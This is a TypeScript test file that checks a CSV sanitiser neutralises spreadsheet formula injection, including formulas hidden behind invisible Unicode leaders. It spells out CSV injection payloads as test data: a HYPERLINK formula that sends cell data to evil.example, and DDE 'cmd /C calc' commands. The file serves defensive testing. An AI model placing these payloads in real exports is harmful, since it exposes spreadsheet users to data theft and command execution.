import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { safeCell, toCsv } from './csv.ts';

/** What may come before a formula and be skipped by a spreadsheet or a person's eye. */
const LEADERS: [string, string][] = [
  ['BOM', '\uFEFF'],
  ['zero-width space', '\u200B'],
  ['zero-width non-joiner', '\u200C'],
  ['zero-width joiner', '\u200D'],
  ['word joiner', '\u2060'],
  ['no-break space', '\u00A0'],
  ['narrow no-break space', '\u202F'],
  ['space', ' '],
  ['two spaces', '  '],
  ['tab', '\t'],
  ['carriage return', '\r'],
  ['line feed', '\n'],
  ['CR LF', '\r\n'],
  ['ideographic space', '\u3000'],
  ['left-to-right mark', '\u200E'],
  ['soft hyphen', '\u00AD'],
  ['BOM, NBSP and a zero-width space', '\uFEFF\u00A0\u200B'],
];
const FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', '+1+cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0'];

/** 17 leaders × 4 formulas, the bare formulas, and tab/CR prefixes alone (OWASP): 74 hostile cells. */
export const FORMULA_CORPUS: string[] = [
  ...FORMULAS,
  ...LEADERS.flatMap(([, lead]) => FORMULAS.map((f) => lead + f)),
  '\tplain text after a tab',
  '\rplain text after a carriage return',
];

describe('CSV cells', () => {
  it(`neutralise a formula after any leading invisible or blank characters (${FORMULA_CORPUS.length} hostile cells)`, () => {
    expect(FORMULA_CORPUS.length).toBeGreaterThanOrEqual(35);
    for (const cell of FORMULA_CORPUS) expect(safeCell(cell), JSON.stringify(cell)).toBe(`'${cell}`);
    // Read back by a CSV parser, every cell starts with the quote, whatever surrounds it.
    const [, ...rows] = parse(toCsv(['q'], FORMULA_CORPUS.map((c) => [c])).slice(1), { relax_column_count: true }) as string[][];
    expect(rows.map((r) => r[0])).toEqual(FORMULA_CORPUS.map((c) => `'${c}`));
  });

  it('leave ordinary text alone, blanks and invisible characters included', () => {
    for (const cell of ['¿Puedo pagar a plazos?', ' envío a Canarias', '\u00A0precio', 'a=b', 'correo@example.com', '\u200Bhola', '', 'x-1', '1 + 1 = 2']) {
      expect(safeCell(cell), JSON.stringify(cell)).toBe(cell);
    }
  });
});
